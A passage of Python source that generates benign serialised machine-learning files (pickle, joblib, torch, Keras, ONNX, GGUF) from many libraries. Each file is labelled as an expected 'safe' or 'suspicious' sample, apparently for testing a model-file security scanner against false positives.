        _breadth_sklearn,
        _breadth_pandas_scipy_numpy,
        _breadth_boosting,
        _breadth_statsmodels,
        _breadth_torch,
        _breadth_transformers,
        _breadth_keras,
        _breadth_onnx,
        _breadth_gguf,
    ):
        try:
            part()
        except ImportError as exc:  # a library missing here: keep the committed files
            print(f"skipped {part.__name__}: {exc}", file=sys.stderr)


def _both(name: str, obj: object, source: str, expect: str = "safe") -> None:
    """pickle.dumps and joblib.dump of one object."""
    import joblib

    put(
        "benign", f"{name}.pkl", pickle.dumps(obj, protocol=pickle.DEFAULT_PROTOCOL), expect, source
    )
    buf = io.BytesIO()
    joblib.dump(obj, buf)
    put("benign", f"{name}.joblib", buf.getvalue(), expect, f"joblib.dump: {source}")


def _xy() -> tuple[object, object, object]:
    import numpy as np
    import pandas as pd

    rng = np.random.RandomState(0)
    x = rng.rand(40, 3)
    y = (x[:, 0] > 0.5).astype(int)
    frame = pd.DataFrame(
        {
            "num": rng.rand(40),
            "cat": pd.Categorical(rng.choice(["a", "b", "c"], 40)),
            "text": rng.choice(["red fox", "lazy dog", "quick brown"], 40),
        }
    )
    return x, y, frame


def _breadth_sklearn() -> None:
    import functools

    import numpy as np
    from sklearn.cluster import DBSCAN, KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        AdaBoostClassifier,
        ExtraTreesRegressor,
        HistGradientBoostingClassifier,
        IsolationForest,
        StackingClassifier,
        VotingClassifier,
    )
    from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
    from sklearn.feature_selection import SelectKBest, f_classif
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression, Ridge, SGDClassifier
    from sklearn.mixture import GaussianMixture
    from sklearn.model_selection import GridSearchCV
    from sklearn.naive_bayes import GaussianNB, MultinomialNB
    from sklearn.neighbors import KNeighborsClassifier, NearestNeighbors
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import FeatureUnion, Pipeline
    from sklearn.preprocessing import (
        FunctionTransformer,
        LabelEncoder,
        OneHotEncoder,
        OrdinalEncoder,
        PolynomialFeatures,
        QuantileTransformer,
        StandardScaler,
    )
    from sklearn.svm import SVC

    x, y, frame = _xy()
    src = "scikit-learn estimator"
    models: dict[str, object] = {
        "hist_gboost": HistGradientBoostingClassifier(max_iter=3).fit(x, y),
        "isolation_forest": IsolationForest(n_estimators=3, random_state=0).fit(x),
        "kmeans": KMeans(2, n_init=1, random_state=0).fit(x),
        "dbscan": DBSCAN().fit(x),
        "pca": PCA(2).fit(x),
        "svc": SVC(probability=True, random_state=0).fit(x, y),
        "mlp": MLPClassifier((4,), max_iter=20, random_state=0).fit(x, y),
        "sgd": SGDClassifier(random_state=0).fit(x, y),
        "ridge": Ridge().fit(x, y),
        "gnb": GaussianNB().fit(x, y),
        "gmm": GaussianMixture(2, random_state=0).fit(x),
        "extra_trees": ExtraTreesRegressor(n_estimators=2, max_depth=2).fit(x, y),
        "adaboost": AdaBoostClassifier(n_estimators=2).fit(x, y),
        "knn_kd_tree": KNeighborsClassifier(3, algorithm="kd_tree").fit(x, y),
        "nn_ball_tree": NearestNeighbors(algorithm="ball_tree").fit(x),
        "label_encoder": LabelEncoder().fit(["a", "b", "a"]),
        "quantile": QuantileTransformer(n_quantiles=10).fit(x),
        "voting": VotingClassifier(
            [("lr", LogisticRegression()), ("nb", GaussianNB())], voting="soft"
        ).fit(x, y),
        "stacking": StackingClassifier(
            [("lr", LogisticRegression()), ("nb", GaussianNB())], cv=2
        ).fit(x, y),
        "feature_union": Pipeline(
            [
                ("union", FeatureUnion([("pca", PCA(1)), ("poly", PolynomialFeatures(2))])),
                ("select", SelectKBest(f_classif, k=2)),
                ("log", FunctionTransformer(np.log1p)),
                ("clf", LogisticRegression()),
            ]
        ).fit(x, y),
    }
    text = ColumnTransformer(
        [
            ("num", Pipeline([("impute", SimpleImputer()), ("scale", StandardScaler())]), ["num"]),
            ("cat", OneHotEncoder(handle_unknown="ignore"), ["cat"]),
            ("ord", OrdinalEncoder(), ["cat"]),
            ("tfidf", TfidfVectorizer(ngram_range=(1, 2)), "text"),
        ]
    )
    models["column_transformer"] = Pipeline([("prep", text), ("clf", LogisticRegression())]).fit(
        frame, y
    )
    models["count_vectorizer"] = CountVectorizer(analyzer="char_wb").fit(frame["text"])
    models["tfidf_nb"] = Pipeline(
        [("tfidf", TfidfVectorizer(sublinear_tf=True)), ("nb", MultinomialNB())]
    ).fit(frame["text"], y)
    models["tfidf_str_split"] = TfidfVectorizer(
        tokenizer=str.split, preprocessor=str.lower, token_pattern=None
    ).fit(frame["text"])
    words = [f"w{i:04d}{chr(97 + i % 26)}" for i in range(800)]
    docs = [" ".join(words[i : i + 20]) for i in range(0, 800, 20)]
    models["tfidf_vocabulary"] = TfidfVectorizer().fit(docs)
    from sklearn.metrics import fbeta_score, make_scorer

    models["scorer_partial"] = {
        "scorer": make_scorer(fbeta_score, beta=2),
        "partial": functools.partial(fbeta_score, beta=2),
    }
    search = GridSearchCV(LogisticRegression(), {"C": [0.1, 1.0]}, cv=2).fit(x, y)
    models["grid_search"] = search
    models["grid_best"] = search.best_estimator_
    for name, model in models.items():
        _both(f"sklearn2/{name}", model, f"{src} {type(model).__name__}")
    # metadata pickled before the first array, past the 8 KB detection head
    import joblib

    path = BENIGN / "sklearn2/labels_then_arrays.joblib"
    joblib.dump({"classes": words * 2, "model": models["tfidf_vocabulary"]}, path)
    label(path, "benign", "safe", "joblib.dump with a long label list before the first array")


def _breadth_pandas_scipy_numpy() -> None:
    import datetime

    import numpy as np
    import pandas as pd
    import scipy.sparse as sp
    from dateutil.tz import gettz as dateutil_tz

    idx = pd.date_range("2024-01-01", periods=4, freq="D", tz="Europe/Paris")
    frame = pd.DataFrame(
        {
            "when": idx,
            "naive": pd.date_range("2024-01-01", periods=4, freq="h"),
            "utc": pd.date_range("2024-01-01", periods=4, tz=datetime.timezone.utc),
            "cat": pd.Categorical(["x", "y", "x", "z"], ordered=True),
            "int": pd.array([1, None, 3, 4], dtype="Int64"),
            "flag": pd.array([True, False, None, True], dtype="boolean"),
            "text": pd.array(["a", None, "c", "d"], dtype="string"),
            "delta": pd.to_timedelta([1, 2, 3, 4], unit="s"),
            "period": pd.period_range("2024-01", periods=4, freq="M"),
            "interval": pd.interval_range(0, 4),
            "obj": [{"k": 1}, [1, 2], "s", None],
        }
    )
    multi = frame.set_index(["cat", "int"])
    series = pd.Series([1.5, 2.5], index=pd.Index(["a", "b"], name="key"), name="value")
    sparse_frame = pd.DataFrame({"s": pd.arrays.SparseArray([0, 0, 1, 0])})
    objs = {
        "pandas/frame_many_dtypes.pkl": frame,
        "pandas/multiindex.pkl": multi,
        "pandas/series.pkl": series,
        "pandas/sparse_frame.pkl": sparse_frame,
        "pandas/time_series.pkl": pd.DataFrame(
            {"v": [1.0, 2.0, 3.0]},
            index=pd.date_range("2024-01-01", periods=3, freq="D", tz=dateutil_tz("Europe/Paris")),
        )
        .resample("12h")
        .mean(),
        "pandas/indexes.pkl": [
            pd.Series([1, 2], index=pd.period_range("2024-01", periods=2, freq="M")),
            pd.Series([1, 2], index=pd.timedelta_range("1D", periods=2)),
            pd.Series([1, 2], index=pd.interval_range(0, 2)),
            pd.Series([1, 2], index=pd.CategoricalIndex(["a", "b"])),
            pd.DataFrame({"k": ["a", "b", "a"], "v": [1, 2, 3]}).groupby("k").agg(["sum", "mean"]),
            pd.DateOffset(months=1, days=2),
        ],
        "pandas/offsets.pkl": [
            pd.offsets.BDay(2),
            pd.offsets.MonthEnd(),
            pd.Timestamp("2024-01-01"),
        ],
    }
    for name, obj in objs.items():
        put("benign", name, pickle.dumps(obj, protocol=5), "safe", "pandas object, pickle.dumps")
    try:  # pandas 3 keeps strings in pyarrow arrays when pyarrow is installed
        import pyarrow as pa

        arrow = {
            "frame": pd.DataFrame({"s": ["x", None], "i": pd.array([1, None], "int64[pyarrow]")}),
            "nested": pd.Series([[1, 2]], dtype=pd.ArrowDtype(pa.list_(pa.int64()))),
            "struct": pd.Series([{"a": 1}], dtype=pd.ArrowDtype(pa.struct([("a", pa.int64())]))),
            "when": pd.Series(
                [datetime.datetime(2024, 1, 1)],
                dtype=pd.ArrowDtype(pa.timestamp("us", tz="UTC")),
            ),
            "table": pa.table({"a": [1, 2], "b": ["x", "y"]}),
        }
        put("benign", "pandas/pyarrow_backed.pkl", pickle.dumps(arrow, 5), "safe", "pandas+pyarrow")
    except ImportError as exc:
        print(f"pyarrow: {exc}", file=sys.stderr)
    for comp in ("gzip", "bz2", "xz", "zip"):
        path = BENIGN / f"pandas/frame.pkl.{comp}"
        frame.to_pickle(path, compression=comp)
        label(path, "benign", "safe", f"pandas DataFrame.to_pickle(compression={comp!r})")
    dense = np.array([[0, 1.0], [2.0, 0]])
    sparse = {
        "csr_matrix": sp.csr_matrix(dense),
        "csc_matrix": sp.csc_matrix(dense),
        "coo_matrix": sp.coo_matrix(dense),
        "lil_matrix": sp.lil_matrix(dense),
        "dok_matrix": sp.dok_matrix(dense),
        "csr_array": sp.csr_array(dense),
        "bsr_matrix": sp.bsr_matrix(dense),
    }
    put("benign", "scipy/sparse_matrices.pkl", pickle.dumps(sparse, 4), "safe", "scipy.sparse")
    import scipy.interpolate as si
    import scipy.optimize as so
    import scipy.spatial as sps
    import scipy.stats as st

    grid = np.linspace(0, 1, 8)
    rng = np.random.RandomState(0)
    scipy_objects = {
        "norm": st.norm(0, 1),
        "gamma": st.gamma(2.0),
        "kde": st.gaussian_kde(rng.rand(16)),
        "interp1d": si.interp1d(grid, grid**2),
        "cubic": si.CubicSpline(grid, grid**2),
        "kdtree": sps.KDTree(rng.rand(8, 2)),
        "ckdtree": sps.cKDTree(rng.rand(8, 2)),
        "rotation": sps.transform.Rotation.from_euler("z", 30, degrees=True),
        "optimum": so.minimize(so.rosen, np.ones(2) * 0.5),
        "linregress": st.linregress(grid, grid * 2),
    }
    put(
        "benign",
        "scipy/stats_interpolate_spatial.pkl",
        pickle.dumps(scipy_objects, 4),
        "safe",
        "scipy objects estimators hold (frozen distributions, KDE, splines, KD-trees)",
    )
    buf = io.BytesIO()
    sp.save_npz(buf, sparse["csr_matrix"])
    put("benign", "scipy/csr.npz", buf.getvalue(), "safe", "scipy.sparse.save_npz")
    objarr = np.array([{"a": 1}, "text", ["l"], None, 2.5], dtype=object)
    buf = io.BytesIO()
    np.save(buf, objarr, allow_pickle=True)
    put("benign", "numpy/object_dicts.npy", buf.getvalue(), "safe", "numpy.save object array")
    buf = io.BytesIO()
    np.savez(buf, names=np.array(["a", "b"], dtype=object), w=np.ones(3, dtype=np.float16))
    put("benign", "numpy/object_members.npz", buf.getvalue(), "safe", "numpy.savez object")
    misc = {
        "masked": np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]),
        "record": np.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
        "matrix": np.asmatrix(np.eye(2)),
        "structured": np.zeros(2, dtype=[("x", "<f4"), ("y", "U3")]),
        "datetime64": np.array(["2024-01-01"], dtype="datetime64[D]"),
        "scalars": [np.int8(1), np.float32(2), np.complex64(1j), np.bool_(True), np.str_("s")],
        "unicode": np.array(["x", "yz"]),
        "stringdtype": np.array(["a", "bc"], dtype=np.dtypes.StringDType()),
        "poly1d": np.poly1d([1.0, 2.0]),
        "finfo": np.finfo(np.float32),
    }
    put("benign", "numpy/misc_p2.pkl", pickle.dumps(misc, 2), "safe", "numpy values, protocol 2")
    put("benign", "numpy/misc_p5.pkl", pickle.dumps(misc, 5), "safe", "numpy values, protocol 5")
    import joblib

    for comp in ("zlib", "gzip", "bz2", "lzma", "xz"):
        path = BENIGN / f"numpy/frame_and_arrays.joblib.{comp}"
        joblib.dump({"frame": frame, "misc": misc, "w": np.ones((16, 4))}, path, compress=(comp, 1))
        label(path, "benign", "safe", f"joblib.dump compress={comp} of pandas/numpy values")
    path = BENIGN / "numpy/mmap_ready.joblib"
    joblib.dump([np.arange(100, dtype=np.int64), np.ones((3, 3), order="F")], path)
    label(path, "benign", "safe", "joblib.dump of C and Fortran-ordered arrays")


def _breadth_boosting() -> None:
    x, y, _frame = _xy()
    try:
        import xgboost

        clf = xgboost.XGBClassifier(n_estimators=2, max_depth=2).fit(x, y)
        _both("boosting/xgb_classifier", clf, f"xgboost {xgboost.__version__} XGBClassifier")
        booster = clf.get_booster()
        put("benign", "boosting/xgb_booster.pkl", pickle.dumps(booster), "safe", "xgboost Booster")
    except ImportError as exc:
        print(f"xgboost: {exc}", file=sys.stderr)
    try:
        import lightgbm

        model = lightgbm.LGBMClassifier(n_estimators=2, num_leaves=3, verbose=-1).fit(x, y)
        _both("boosting/lgbm_classifier", model, f"lightgbm {lightgbm.__version__} LGBMClassifier")
        put(
            "benign",
            "boosting/lgbm_booster.pkl",
            pickle.dumps(model.booster_),
            "safe",
            "lightgbm Booster",
        )
    except ImportError as exc:
        print(f"lightgbm: {exc}", file=sys.stderr)


def _breadth_statsmodels() -> None:
    import numpy as np
    import pandas as pd
    import statsmodels.api as sm
    import statsmodels.formula.api as smf
    from statsmodels.tsa.arima.model import ARIMA

    rng = np.random.RandomState(0)
    frame = pd.DataFrame({"y": rng.rand(30), "x": rng.rand(30), "g": rng.choice(["a", "b"], 30)})
    ols = sm.OLS(frame["y"], sm.add_constant(frame["x"])).fit()
    formula = smf.ols("y ~ x + C(g)", data=frame).fit()
    logit = sm.Logit((frame["y"] > 0.5).astype(int), sm.add_constant(frame["x"])).fit(disp=0)
    arima = ARIMA(frame["y"].values, order=(1, 0, 0)).fit()
    for name, res in (("ols", ols), ("formula_ols", formula), ("logit", logit), ("arima", arima)):
        buf = io.BytesIO()
        res.save(buf)
        put(
            "benign",
            f"statsmodels/{name}.pickle",
            buf.getvalue(),
            "safe",
            "statsmodels results.save",
        )


def _breadth_torch() -> None:
    import argparse
    import pathlib

    import torch

    out = BENIGN / "torch2"
    out.mkdir(parents=True, exist_ok=True)
    tensors = {
        "f32": torch.ones(2),
        "f64": torch.ones(2, dtype=torch.float64),
        "f16": torch.ones(2, dtype=torch.float16),
        "bf16": torch.ones(2, dtype=torch.bfloat16),
        "f8_e4m3": torch.ones(2).to(torch.float8_e4m3fn),
        "f8_e5m2": torch.ones(2).to(torch.float8_e5m2),
        "c64": torch.ones(2, dtype=torch.complex64),
        "bool": torch.ones(2, dtype=torch.bool),
        "i8": torch.ones(2, dtype=torch.int8),
        "u8": torch.ones(2, dtype=torch.uint8),
        "i64": torch.arange(3),
        "qint8": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.qint8),
        "quint8_channel": torch.quantize_per_channel(
            torch.ones(2, 2), torch.tensor([0.1, 0.2]), torch.tensor([0, 0]), 0, torch.quint8
        ),
        "sparse_coo": torch.eye(3).to_sparse(),
        "sparse_csr": torch.eye(3).to_sparse_csr(),
        "param": torch.nn.Parameter(torch.ones(2)),
        "view": torch.arange(6).view(2, 3)[:, 1],
        "channels_last": torch.ones(1, 2, 2, 2).to(memory_format=torch.channels_last),
    }
    torch.save(tensors, out / "dtypes.pt")
    label(out / "dtypes.pt", "benign", "safe", "torch.save of tensors in every common dtype/layout")
    nested = torch.nested.nested_tensor([torch.ones(2), torch.ones(3)])
    torch.save({"nested": nested}, out / "nested_tensor.pt")
    label(out / "nested_tensor.pt", "benign", "safe", "torch.save of a nested tensor")
    torch.save(tensors, out / "dtypes_legacy.pt", _use_new_zipfile_serialization=False)
    label(out / "dtypes_legacy.pt", "benign", "safe", "legacy torch.save of many dtypes")
    put(
        "benign",
        "torch2/pickled_tensors.pkl",
        pickle.dumps({"w": torch.ones(3), "h": torch.zeros(2, dtype=torch.float16)}),
        "safe",
        "plain pickle.dumps of tensors (storages as torch.storage._load_from_bytes)",
    )

    class TinyNet(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.conv = torch.nn.Conv2d(1, 2, 3)
            self.bn = torch.nn.BatchNorm2d(2)
            self.lstm = torch.nn.LSTM(4, 4, batch_first=True)
            self.emb = torch.nn.Embedding(10, 4)
            self.attn = torch.nn.MultiheadAttention(4, 2, batch_first=True)
            self.head = torch.nn.utils.weight_norm(torch.nn.Linear(4, 2))
            self.drop = torch.nn.Dropout(0.1)

    TinyNet.__module__ = "tinynet"
    TinyNet.__qualname__ = "TinyNet"
    sys.modules.setdefault("tinynet", type(sys)("tinynet"))
    sys.modules["tinynet"].TinyNet = TinyNet  # type: ignore[attr-defined]
    net = TinyNet()
    torch.save(net.state_dict(), out / "tinynet_state.pt")
    label(
        out / "tinynet_state.pt", "benign", "safe", "state_dict: conv/bn/lstm/attention/weight_norm"
    )
    torch.save(net, out / "tinynet_whole.pt")
    label(
        out / "tinynet_whole.pt",
        "benign",
        "suspicious",
        "torch.save(whole module): a user class outside the profiles is for review, never unsafe",
    )
    opt = torch.optim.Adam(net.parameters(), lr=1e-3)
    net.head.weight_v if hasattr(net.head, "weight_v") else None
    loss = sum(p.sum() for p in net.parameters() if p.dtype.is_floating_point)
    loss.backward()
    opt.step()
    sched = torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=0.1, total_steps=10)
    sgd = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    scaler = torch.amp.GradScaler("cpu")
    torch.save(
        {
            "model": net.state_dict(),
            "optimizer": opt.state_dict(),
            "sgd": sgd.state_dict(),
            "scheduler": sched.state_dict(),
            "scaler": scaler.state_dict(),
            "rng": torch.get_rng_state(),
            "epoch": 2,
            "args": argparse.Namespace(lr=0.1, out=pathlib.PosixPath("/tmp/run"), tags=["a"]),
        },
        out / "training_checkpoint.pth",
    )
    label(out / "training_checkpoint.pth", "benign", "safe", "training checkpoint with optimizers")
    # Lightning-style checkpoint (lightning itself is not installable here: same layout,
    # see lightning/pytorch/trainer/connectors/checkpoint_connector.py dump_checkpoint)
    hparams: dict[str, object] = {"lr": 0.01, "layers": [4, 2], "data_dir": pathlib.Path("data")}
    try:
        from omegaconf import OmegaConf

        hparams["cfg"] = OmegaConf.create({"model": {"dim": 4}, "optim": {"lr": 0.1}})
    except ImportError:
        pass
    torch.save(
        {
            "epoch": 1,
            "global_step": 10,
            "pytorch-lightning_version": "2.5.0",
            "state_dict": net.state_dict(),
            "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 1}}}},
            "callbacks": {"ModelCheckpoint{'monitor': None}": {"best_model_score": None}},
            "optimizer_states": [opt.state_dict()],
            "lr_schedulers": [sched.state_dict()],
            "hparams_name": "kwargs",
            "hyper_parameters": hparams,
        },
        out / "lightning_style.ckpt",
    )
    label(
        out / "lightning_style.ckpt",
        "benign",
        "safe",
        "Lightning checkpoint layout with hyper_parameters (Namespace, Path, OmegaConf)",
    )
    torch.save(net.state_dict(), out / "pytorch_model.bin")
    label(out / "pytorch_model.bin", "benign", "safe", "HF-style pytorch_model.bin")
    try:
        import torch.distributed.checkpoint as dcp

        dcp.save({"model": net.state_dict()}, checkpoint_id=str(out / "dcp"))
        for item in sorted((out / "dcp").iterdir()):
            label(item, "benign", "safe", "torch.distributed.checkpoint.save")
    except Exception as exc:  # needs a working gloo backend
        print(f"dcp: {exc}", file=sys.stderr)
    quant = torch.ao.quantization.quantize_dynamic(
        torch.nn.Sequential(torch.nn.Linear(4, 4)), {torch.nn.Linear}, dtype=torch.qint8
    )
    torch.save(quant.state_dict(), out / "dynamic_quant_state.pt")
    label(out / "dynamic_quant_state.pt", "benign", "safe", "dynamic-quantized Linear state_dict")


def _breadth_transformers() -> None:
    import torch
    import transformers
    from tokenizers import Tokenizer, models, pre_tokenizers

    out = BENIGN / "transformers"
    out.mkdir(parents=True, exist_ok=True)
    args = transformers.TrainingArguments(
        output_dir=str(out / "run"), eval_strategy="steps", report_to=[], save_strategy="epoch"
    )
    torch.save(args, out / "training_args.bin")
    label(
        out / "training_args.bin",
        "benign",
        "safe",
        f"transformers {transformers.__version__} Trainer writes torch.save(TrainingArguments)",
    )
    shutil.rmtree(out / "run", ignore_errors=True)
    vocab = {"[UNK]": 0, "[PAD]": 1, "hello": 2, "world": 3}
    tok = Tokenizer(models.WordLevel(vocab, unk_token="[UNK]"))
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    fast = transformers.PreTrainedTokenizerFast(
        tokenizer_object=tok, unk_token="[UNK]", pad_token="[PAD]"
    )
    put(
        "benign", "transformers/tokenizer_fast.pkl", pickle.dumps(fast), "safe", "pickled tokenizer"
    )
    config = transformers.BertConfig(
        vocab_size=8,
        hidden_size=8,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=8,
        max_position_embeddings=8,
    )
    put(
        "benign", "transformers/bert_config.pkl", pickle.dumps(config), "safe", "pickled BertConfig"
    )
    model = transformers.BertModel(config)
    torch.save(model.state_dict(), out / "pytorch_model.bin")
    label(out / "pytorch_model.bin", "benign", "safe", "tiny BertModel state_dict")
    _trainer_checkpoint(out)
    _trainer_subclass_args(out)
    gen = transformers.GenerationConfig(max_new_tokens=4, do_sample=True, top_p=0.9)
    put(
        "benign",
        "transformers/generation_config.pkl",
        pickle.dumps(gen),
        "safe",
        "GenerationConfig",
    )


def _trainer_checkpoint(out: Path) -> None:
    """One real Trainer step: the checkpoint folder's optimizer/scheduler/rng/args files."""
    import tempfile

    import torch
    import transformers

    cfg = transformers.BertConfig(
        vocab_size=16,
        hidden_size=8,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=8,
        max_position_embeddings=16,
        num_labels=2,
    )

    class Data(torch.utils.data.Dataset):  # type: ignore[type-arg]
        def __len__(self) -> int:
            return 4

        def __getitem__(self, i: int) -> dict[str, object]:
            return {"input_ids": torch.tensor([1, 2, 3]), "labels": torch.tensor(i % 2)}

    with tempfile.TemporaryDirectory() as tmp:
        args = transformers.TrainingArguments(
            output_dir=tmp,
            max_steps=1,
            save_steps=1,
            report_to=[],
            per_device_train_batch_size=2,
            use_cpu=True,
        )
        model = transformers.BertForSequenceClassification(cfg)
        transformers.Trainer(model=model, args=args, train_dataset=Data()).train()
        dest = out / "checkpoint-1"
        dest.mkdir(parents=True, exist_ok=True)
        for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth", "training_args.bin"):
            shutil.copy(Path(tmp) / "checkpoint-1" / name, dest / name)
            label(dest / name, "benign", "safe", "transformers Trainer checkpoint file")


def _trainer_subclass_args(out: Path) -> None:
    """training_args.bin as TRL, sentence-transformers and PEFT users upload it."""
    import tempfile

    import torch

    with tempfile.TemporaryDirectory() as tmp:
        common = {"output_dir": tmp, "report_to": [], "use_cpu": True}
        made: dict[str, tuple[object, str]] = {}
        try:
            from trl import DPOConfig, SFTConfig

            made["trl_sft_training_args.bin"] = (SFTConfig(**common, bf16=False), "trl SFTConfig")
            made["trl_dpo_training_args.bin"] = (DPOConfig(**common, bf16=False), "trl DPOConfig")
        except ImportError as exc:
            print(f"trl: {exc}", file=sys.stderr)
        try:
            from sentence_transformers import SentenceTransformerTrainingArguments
            from sentence_transformers.training_args import BatchSamplers

            args = SentenceTransformerTrainingArguments(
                **common, batch_sampler=BatchSamplers.NO_DUPLICATES
            )
            made["st_training_args.bin"] = (args, "sentence-transformers training arguments")
        except ImportError as exc:
            print(f"sentence-transformers: {exc}", file=sys.stderr)
        try:
            import peft

            lora = peft.LoraConfig(r=4, target_modules=["q", "v"], task_type="CAUSAL_LM")
            made["peft_lora_config.bin"] = (lora, "peft LoraConfig (PeftType/TaskType enums)")
        except ImportError as exc:
            print(f"peft: {exc}", file=sys.stderr)
        for name, (obj, source) in made.items():
            torch.save(obj, out / name)
            label(out / name, "benign", "safe", f"torch.save of a {source}")


def _breadth_keras() -> None:
    import keras

    out = BENIGN / "keras2"
    out.mkdir(parents=True, exist_ok=True)
    inp = keras.Input((8, 8, 1))
    h = keras.layers.Conv2D(2, 3, activation="relu", padding="same")(inp)
    h = keras.layers.BatchNormalization()(h)
    h = keras.layers.MaxPooling2D()(h)
    h = keras.layers.Dropout(0.1)(h)
    h = keras.layers.Flatten()(h)
    a = keras.layers.Dense(4, activation="gelu")(h)
    b = keras.layers.Dense(4, activation="tanh", kernel_regularizer="l2")(h)
    h = keras.layers.Concatenate()([a, b])
    h = keras.layers.Add()([keras.layers.Dense(8)(h), h])
    out_layer = keras.layers.Dense(3, activation="softmax")(h)
    cnn = keras.Model(inp, out_layer)
    cnn.compile(
        optimizer=keras.optimizers.Adam(1e-3),
        loss="sparse_categorical_crossentropy",
        metrics=["accuracy"],
    )
    seq_in = keras.Input((5,), dtype="int32")
    s = keras.layers.Embedding(20, 4)(seq_in)
    s = keras.layers.LSTM(4, return_sequences=True)(s)
    s = keras.layers.MultiHeadAttention(2, 2)(s, s)
    s = keras.layers.LayerNormalization()(s)
    s = keras.layers.GlobalAveragePooling1D()(s)
    rnn = keras.Model(seq_in, keras.layers.Dense(1, activation="sigmoid")(s))
    rnn.compile(optimizer="rmsprop", loss="binary_crossentropy")
    for name, model in (("cnn_functional", cnn), ("rnn_attention", rnn)):
        model.save(out / f"{name}.keras")
        label(out / f"{name}.keras", "benign", "safe", "keras 3 Model.save with common layers")
        model.save(out / f"{name}.h5")
        label(out / f"{name}.h5", "benign", "safe", "keras 3 legacy HDF5 save")
        model.save_weights(out / f"{name}.weights.h5")
        label(out / f"{name}.weights.h5", "benign", "safe", "keras 3 save_weights")


def _breadth_gguf() -> None:
    import re

    import gguf
    import numpy as np
    from chat_templates import CHAT_TEMPLATES

    for model_id, template in CHAT_TEMPLATES.items():
        slug = re.sub(r"[^a-z0-9]+", "_", model_id.split(" ")[0].lower()).strip("_")
        path = BENIGN / f"gguf2/{slug}.gguf"
        path.parent.mkdir(parents=True, exist_ok=True)
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_chat_template(template)
        writer.add_block_count(32)
        writer.add_context_length(4096)
        writer.add_tokenizer_model("llama")
        writer.add_token_list(["<s>", "</s>", "a"])
        writer.add_token_scores([0.0, 0.0, -1.5])
        writer.add_token_types([3, 3, 1])
        writer.add_tensor("token_embd.weight", np.ones((3, 4), dtype=np.float16))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        label(path, "benign", "safe", f"GGUF with the chat template of {model_id}")


def _breadth_onnx() -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def init(name: str, shape: tuple[int, ...]) -> onnx.TensorProto:
        return numpy_helper.from_array(np.ones(shape, dtype=np.float32), name)

    nodes = [
        helper.make_node("Conv", ["x", "W", "B"], ["c"], pads=[1, 1, 1, 1]),
        helper.make_node("BatchNormalization", ["c", "s", "b2", "m", "v"], ["bn"]),
        helper.make_node("Relu", ["bn"], ["r"]),
        helper.make_node("GlobalAveragePool", ["r"], ["p"]),
        helper.make_node(
            "Constant",
            [],
            ["shape"],
            value=numpy_helper.from_array(np.array([1, 2], dtype=np.int64), "shape_c"),
        ),
        helper.make_node("Reshape", ["p", "shape"], ["f"]),
        helper.make_node("Gemm", ["f", "G", "gb"], ["g"], transB=1),
        helper.make_node("LayerNormalization", ["g", "ln_s", "ln_b"], ["ln"], axis=-1),
        helper.make_node("Softmax", ["ln"], ["y"], axis=1),
    ]
    graph = helper.make_graph(
        nodes,
        "cnn",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1, 4, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])],
        [
            init("W", (2, 1, 3, 3)),
            init("B", (2,)),
            init("s", (2,)),
            init("b2", (2,)),
            init("m", (2,)),
            init("v", (2,)),
            init("G", (2, 2)),
            init("gb", (2,)),
            init("ln_s", (2,)),
            init("ln_b", (2,)),
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.checker.check_model(model)
    out = BENIGN / "onnx2"
    out.mkdir(parents=True, exist_ok=True)
    onnx.save(model, out / "cnn.onnx")
    label(out / "cnn.onnx", "benign", "safe", "onnx standard ops (Conv/BN/Gemm/LayerNorm/Softmax)")
    sub = out / "external_subfolder"
    (sub / "data").mkdir(parents=True, exist_ok=True)
    onnx.save(
        model,
        sub / "model.onnx",
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="data/weights.bin",
        size_threshold=0,
    )
    label(sub / "model.onnx", "benign", "safe", "onnx external data in a sub-folder")
    per = out / "external_per_tensor"
    per.mkdir(exist_ok=True)
    onnx.save(
        model,
        per / "model.onnx",
        save_as_external_data=True,
        all_tensors_to_one_file=False,
        size_threshold=0,
    )
    label(per / "model.onnx", "benign", "safe", "onnx external data, one file per tensor")
    ms = helper.make_model(
        helper.make_graph(
            [helper.make_node("Gelu", ["x"], ["y"], domain="com.microsoft")],
            "ms",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        ),
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)],
    )
    try:
        import torch

        net = torch.nn.Sequential(
            torch.nn.Conv2d(1, 2, 3),
            torch.nn.BatchNorm2d(2),
            torch.nn.ReLU(),
            torch.nn.Flatten(),
            torch.nn.Linear(18, 3),
            torch.nn.Softmax(dim=1),
        ).eval()
        torch.onnx.export(
            net, (torch.ones(1, 1, 5, 5),), str(out / "torch_export.onnx"), dynamo=False
        )
        label(
            out / "torch_export.onnx", "benign", "safe", "torch.onnx.export (TorchScript exporter)"
        )
    except Exception as exc:  # the exporter needs onnx; dynamo needs onnxscript
        print(f"torch.onnx.export: {exc}", file=sys.stderr)
    onnx.save(ms, out / "ort_contrib_gelu.onnx")
    label(
        out / "ort_contrib_gelu.onnx",
        "benign",
        "safe",
        "onnxruntime contrib op (com.microsoft), written by ORT's transformer optimizer",
    )


